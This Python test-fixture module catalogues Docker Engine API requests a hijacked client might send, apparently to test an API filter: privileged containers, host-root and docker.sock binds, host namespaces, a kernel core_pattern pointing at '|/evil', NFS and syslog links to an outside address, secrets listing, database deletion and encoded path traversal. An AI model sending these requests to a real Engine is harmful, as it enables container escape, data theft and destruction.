"""What a consumer that was taken over would ask of a Docker Engine."""

import copy
from collections.abc import Callable
from typing import Any

Body = dict[str, Any]


def _host(**changes: Any) -> Callable[[Body], None]:
    return lambda body: body["HostConfig"].update(changes)


def _top(**changes: Any) -> Callable[[Body], None]:
    return lambda body: body.update(changes)


def _mount(**changes: Any) -> Callable[[Body], None]:
    return lambda body: body["HostConfig"]["Mounts"][0].update(changes)


def _device(path: str) -> Callable[[Body], None]:
    def change(body: Body) -> None:
        body["HostConfig"]["Mounts"][0]["VolumeOptions"]["DriverConfig"]["Options"]["device"] = path

    return change


def _drop(*names: str) -> Callable[[Body], None]:
    def change(body: Body) -> None:
        for name in names:
            del body["HostConfig"][name]

    return change


CREATIONS: dict[str, Callable[[Body], None]] = {
    "privileged": _host(Privileged=True),
    "privileged-in-other-letters": _host(privileged=True),
    "host-config-in-other-letters": _top(hostconfig={"Privileged": True}),
    "capability": _host(CapAdd=["SYS_ADMIN"]),
    "default-capabilities": _host(CapDrop=[]),
    "no-capabilities-named": _drop("CapDrop"),
    "device": _host(Devices=[{"PathOnHost": "/dev/sda", "PathInContainer": "/dev/sda", "CgroupPermissions": "rwm"}]),
    "device-cgroup-rule": _host(DeviceCgroupRules=["b *:* rwm"]),
    "bind-of-the-host": _host(Binds=["/:/host"]),
    "bind-of-the-socket": _host(Binds=["/var/run/docker.sock:/docker.sock"]),
    "mount-of-the-host": _host(Mounts=[{"Type": "bind", "Source": "/", "Target": "/host"}]),
    "volume-over-the-host": _device("/"),
    "volume-over-etc": _device("/etc"),
    "volume-that-climbs": _device("{root}/../.."),
    "volume-over-all-work": _device("{root}"),
    "volume-of-the-database": _mount(Source="inference-server_postgres"),
    "volume-of-another-driver": lambda body: body["HostConfig"]["Mounts"][0]["VolumeOptions"].update(
        DriverConfig={"Name": "sshfs", "Options": {}}
    ),
    "network-file-system": lambda body: body["HostConfig"]["Mounts"][0]["VolumeOptions"]["DriverConfig"].update(
        Options={"type": "nfs", "o": "addr=203.0.113.9", "device": ":/"}
    ),
    "volumes-of-another-container": _host(VolumesFrom=["private-api"]),
    "host-network": _host(NetworkMode="host"),
    "network-of-a-container": _host(NetworkMode="container:inference-server-private-api-1"),
    "network-of-the-platform": _host(NetworkMode="inference-server_back"),
    "second-network": _top(NetworkingConfig={"EndpointsConfig": {"inference-server_back": {}}}),
    "port-of-the-host": _host(PortBindings={"80/tcp": [{"HostIp": "0.0.0.0", "HostPort": "443"}]}),  # noqa: S104
    "every-port": _host(PublishAllPorts=True),
    "host-processes": _host(PidMode="host"),
    "host-ipc": _host(IpcMode="host"),
    "host-users": _host(UsernsMode="host"),
    "host-names": _host(UTSMode="host"),
    "host-cgroups": _host(CgroupnsMode="host"),
    "parent-cgroup": _host(CgroupParent="/"),
    "kernel-setting": _host(Sysctls={"kernel.core_pattern": "|/evil"}),
    "no-seccomp": _host(SecurityOpt=["no-new-privileges", "seccomp=unconfined"]),
    "no-apparmor": _host(SecurityOpt=["no-new-privileges", "apparmor=unconfined"]),
    "new-privileges": _host(SecurityOpt=[]),
    "visible-kernel": _host(MaskedPaths=[], ReadonlyPaths=[]),
    "file-system-of-the-host": _host(Tmpfs={"/etc": "rw"}),
    "no-memory-limit": _host(Memory=0, MemorySwap=0),
    "swap": _host(MemorySwap=-1),
    "no-limit-of-processes": _host(PidsLimit=-1),
    "starts-for-ever": _host(RestartPolicy={"Name": "always"}),
    "log-to-elsewhere": _host(LogConfig={"Type": "syslog", "Config": {"syslog-address": "tcp://203.0.113.9:514"}}),
    "other-runtime": _host(Runtime="evil"),
    "label-of-compose": lambda body: body["Labels"].update({"com.docker.compose.project": "inference-server"}),
    "command-as-health-check": _top(Healthcheck={"Test": ["CMD", "true"]}),
    "all-gpus": _host(DeviceRequests=[{"Driver": "", "Count": -1, "Capabilities": [["gpu"]]}]),
}
"""By what they try: each changes a body that is let through."""


def attack(name: str, body: Body, root: str) -> Body:
    """The body of this attack; `root` is the work directory as the Engine sees it."""
    changed = copy.deepcopy(body)
    CREATIONS[name](changed)
    for mount in changed["HostConfig"]["Mounts"]:
        options = mount.get("VolumeOptions", {}).get("DriverConfig", {}).get("Options", {})
        if "device" in options:
            options["device"] = options["device"].replace("{root}", root)
    return changed


CALLS: dict[str, tuple[str, str]] = {
    "exec": ("POST", "/v1.41/containers/is-{run}/exec"),
    "exec-start": ("POST", "/v1.41/exec/0123456789ab/start"),
    "read-files": ("GET", "/v1.41/containers/is-{run}/archive?path=/"),
    "write-files": ("PUT", "/v1.41/containers/is-{run}/archive?path=/"),
    "export": ("GET", "/v1.41/containers/is-{run}/export"),
    "update-limits": ("POST", "/v1.41/containers/is-{run}/update"),
    "rename": ("POST", "/v1.41/containers/is-{run}/rename?name=postgres"),
    "inspect-another": ("GET", "/v1.41/containers/inference-server-private-api-1/json"),
    "inspect-by-id": ("GET", "/v1.41/containers/0123456789ab/json"),
    "logs-of-another": ("GET", "/v1.41/containers/inference-server-postgres-1/logs?stdout=1"),
    "remove-another": ("DELETE", "/v1.41/containers/inference-server-postgres-1?force=1"),
    "list-everything": ("GET", "/v1.41/containers/json?all=1"),
    "list-everything-else": ("GET", '/v1.41/containers/json?filters={"label":["com.docker.compose.project"]}'),
    "all-events": ("GET", "/v1.41/events?since=1"),
    "events-of-another": ("GET", '/v1.41/events?since=1&filters={"container":["inference-server-postgres-1"]}'),
    "create-under-another-name": ("POST", "/v1.41/containers/create?name=postgres"),
    "create-without-a-name": ("POST", "/v1.41/containers/create"),
    "name-given-twice": ("POST", "/v1.41/containers/create?name=is-a-1&name=postgres"),
    "attach-to-write": ("POST", "/v1.41/containers/is-{run}/attach?stream=1&stdin=1"),
    "build": ("POST", "/v1.41/build"),
    "commit": ("POST", "/v1.41/commit?container=is-{run}"),
    "load-images": ("POST", "/v1.41/images/load"),
    "import-an-image": ("POST", "/v1.41/images/create?fromSrc=http://203.0.113.9/image.tar"),
    "push": ("POST", "/v1.41/images/busybox/push"),
    "tag": ("POST", "/v1.41/images/busybox/tag?repo=inference-server"),
    "force-an-image-away": ("DELETE", "/v1.41/images/inference-server:0.1.0?force=1"),
    "new-volume": ("POST", "/v1.41/volumes/create"),
    "volume-of-the-database": ("DELETE", "/v1.41/volumes/inference-server_postgres"),
    "new-network": ("POST", "/v1.41/networks/create"),
    "join-a-network": ("POST", "/v1.41/networks/inference-server_back/connect"),
    "network-of-the-platform": ("GET", "/v1.41/networks/inference-server_back"),
    "plugin": ("POST", "/v1.41/plugins/pull?remote=evil"),
    "swarm": ("POST", "/v1.41/swarm/init"),
    "service": ("GET", "/v1.41/services"),
    "secrets": ("GET", "/v1.41/secrets"),
    "session": ("POST", "/v1.41/session"),
    "prune": ("POST", "/v1.41/containers/prune"),
    "old-version": ("POST", "/v1.23/containers/is-{run}/start"),
    "path-that-climbs": ("GET", "/v1.41/containers/is-{run}/../inference-server-postgres-1/json"),
    "coded-path-that-climbs": ("GET", "/v1.41/images/a/%2e%2e/%2e%2e/containers/json"),
    "coded-slash": ("GET", "/v1.41/containers/is-{run}%2fjson%3fx/json"),
}
"""By what they try: method and target."""
